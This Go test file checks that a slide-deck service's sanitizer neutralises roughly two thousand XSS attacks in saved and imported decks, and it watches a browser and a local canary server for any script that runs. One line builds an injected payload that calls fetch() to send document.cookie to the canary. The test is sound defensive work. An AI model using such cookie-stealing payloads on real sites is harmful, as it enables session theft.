package rest_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"catena/decks"
	"catena/decks/decktest"
	"catena/rest"
	"catena/rest/resttest"
)

// arena is a server with hostile decks, and a browser tab that is watched: an attack that runs
// sends its name to the outermost page, and whatever is asked for reaches the canary.
type arena struct {
	*tab
	s      *resttest.Server
	canary *httptest.Server
	heard  sync.Map
	armed  []string
}

// watching is in every page.
const watching = `addEventListener("message", (e) => { if (/^HIT/.test(e.data)) window[e.data] = 1; }, true)`

func enter(t *testing.T) *arena {
	t.Helper()
	a := &arena{}
	a.canary = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { a.heard.Store(r.URL.String(), true) }))
	t.Cleanup(a.canary.Close)
	a.s = resttest.Start(t, resttest.Config{Ops: decks.Ops(), Repo: decks.Listen, Rest: func(c *rest.Config) { c.Limits.Rate = -1 }})
	a.s.User("alice")
	account(t, a.s, "alice", "pro", "", 0)
	for i, attack := range decktest.Attacks() {
		script := fmt.Sprintf("self.HIT%[1]d=1;top.postMessage('HIT%[1]d','*');fetch('%[2]s/script/%[1]d?'+document.cookie)", i, a.canary.URL)
		a.armed = append(a.armed, decktest.Arm(attack, script, fmt.Sprintf("%s/%d", a.canary.URL, i)))
	}
	return a
}

// use has a tab tell what runs in it.
func (a *arena) use(b *tab) {
	a.tab = b
	if _, err := chromedp.Call(b, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: watching}); err != nil {
		b.t.Fatal(err)
	}
}

// hits are the attacks that ran in the page, and the addresses that were asked for.
func (a *arena) hits() (ran string, asked []string) {
	a.t.Helper()
	ran = eval[string](a.tab, `new Promise((r) => setTimeout(() => r(Object.keys(window).filter((k) => k.startsWith("HIT")).join(" ")), 50))`)
	a.heard.Range(func(address, _ any) bool { asked = append(asked, address.(string)); return true })
	return ran, asked
}

// holds fails the test if anything ran or was asked for.
func (a *arena) holds(entryPoint string) {
	a.t.Helper()
	if ran, asked := a.hits(); ran != "" || len(asked) > 0 {
		a.t.Errorf("%s: ran %q, asked for %v", entryPoint, ran, asked)
	}
}

// contained reports whether an attack leaves what follows it alone, so that others may follow.
func contained(attack string) bool {
	const next = `<section><div><a href="/y">y</a><b>z</b><form></form><svg></svg></div></section>`
	body := &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := html.ParseFragment(strings.NewReader("<section>"+attack+"</section>"+next), body)
	if err != nil || len(nodes) != 2 {
		return false
	}
	var out strings.Builder
	return html.Render(&out, nodes[1]) == nil && out.String() == next
}

// grouped are attacks joined by so many, and alone those that would hide others.
func grouped(all []string, size int) (out []string) {
	var group []string
	for _, attack := range all {
		if contained(attack) {
			group = append(group, "<div>"+attack+"</div>")
		} else {
			out = append(out, attack)
		}
	}
	for part := range slices.Chunk(group, size) {
		out = append(out, strings.Join(part, "\n"))
	}
	return out
}

// keep writes every attack into a deck, and returns what the service keeps of them. What has
// been kept once is harmless, and stays byte for byte.
func (a *arena) keep(t *testing.T) (kept []string) {
	t.Helper()
	makeDeck(t, a.s, map[string]any{"title": "try"})
	refused := 0
	for _, attack := range a.armed {
		got := a.s.Do("PATCH", "/v1/decks/1", jsonOf(t, map[string]string{"data": "<section>" + attack + "</section>"}), "as", "alice")
		switch got.StatusCode {
		case http.StatusOK:
			kept = append(kept, got.JSON(t)["data"].(map[string]any)["data"].(string))
		case http.StatusUnprocessableEntity:
			refused++
		default:
			t.Fatalf("%s: %s %s", attack, got.Status, got.Text)
		}
	}
	t.Logf("%d attacks, %d refused", len(a.armed), refused)
	if len(a.armed) < 1900 || len(kept) < len(a.armed)/2 {
		t.Fatalf("%d attacks, %d kept: the test does not test much", len(a.armed), len(kept))
	}
	return kept
}

// decks writes slides into decks of at most so many slides and bytes, and returns their paths
// by number. Slides that have been cleaned stay byte for byte.
func (a *arena) decks(t *testing.T, title string, slides []string, most, size int, cleaned bool) (paths map[int]string) {
	t.Helper()
	paths = map[int]string{}
	for len(slides) > 0 {
		n, text := 0, ""
		for ; n < min(len(slides), most) && (n == 0 || len(text)+len(slides[n]) < size); n++ {
			text += slides[n] + "\n"
		}
		text = strings.TrimSpace(text)
		made := a.s.Do("POST", "/v1/decks", jsonOf(t, map[string]any{"title": title, "data": text}), "as", "alice")
		if made.StatusCode == http.StatusUnprocessableEntity && n > 1 { // too much in one: notes have a limit
			most = n / 2
			continue
		}
		if made.StatusCode != http.StatusCreated {
			t.Fatalf("%s: %s %s", title, made.Status, made.Text)
		}
		slides = slides[n:]
		deck := made.JSON(t)["data"].(map[string]any)
		if cleaned && deck["data"] != text {
			t.Errorf("%s: what was cleaned is cleaned again", title)
		}
		paths[int(deck["id"].(float64))] = strings.TrimPrefix(deck["url"].(string), a.s.URL)
	}
	return paths
}

// imported are decks made of the attacks as presentations from elsewhere, in each format.
func (a *arena) imported(t *testing.T) (kept []string) {
	t.Helper()
	quote := func(s string) string { return strings.ReplaceAll(strings.ReplaceAll(s, "&", "&amp;"), `"`, "&quot;") }
	for format, write := range map[string]func(string) string{
		"html": func(s string) string {
			return `<!doctype html><html lang="` + quote(s) + `"><head><title>` + s + `</title><meta name="description" content="` + quote(s) +
				`"></head><body><div class="reveal"><div class="slides"><section data-background-image="` + quote(s) + `">` + s + `</section></div></div></body></html>`
		},
		"markdown": func(s string) string {
			return "---\ntitle: " + jsonOf(t, s) + "\n---\n# x\n\n" + s + "\n\n---\n\n![a](" + s + ") [b](<" + s + ">) <!-- .element: " + s + " -->\n\n```" + s + "\n" + s + "\n```\n\nNote: " + s[:min(len(s), 40)]
		},
		"define": func(s string) string {
			block := func(typ string) map[string]any {
				return map[string]any{"type": typ, "value": s, "class": s[:min(len(s), 200)], "language": s[:min(len(s), 200)], "x": s[:20], "data": [][]any{{s}}, "animation-type": s[:20]}
			}
			var blocks []any
			for typ := range strings.FieldsSeq("text image video iframe code math table") {
				blocks = append(blocks, block(typ))
			}
			return jsonOf(t, map[string]any{"title": s, "css": s, "slides": []any{map[string]any{
				"html": s, "notes": s[:min(len(s), 40)], "class": s, "id": s, "background-image": s, "background-color": s, "background-video": s, "blocks": blocks,
			}}})
		},
	} {
		made := 0
		for _, attacks := range grouped(decktest.Some(a.armed), 32) {
			got := a.s.Do("POST", "/v1/decks/import", jsonOf(t, map[string]string{"format": format, "source": write(attacks)}), "as", "alice")
			if got.StatusCode != http.StatusCreated && got.StatusCode != http.StatusUnprocessableEntity {
				t.Fatalf("%s of %s: %s %s", format, attacks, got.Status, got.Text)
			}
			if got.StatusCode == http.StatusCreated {
				made++
				kept = append(kept, got.JSON(t)["data"].(map[string]any)["data"].(string))
			}
		}
		if t.Logf("%s: %d decks", format, made); made < 25 {
			t.Errorf("%s: only %d decks", format, made)
		}
	}
	return kept
}
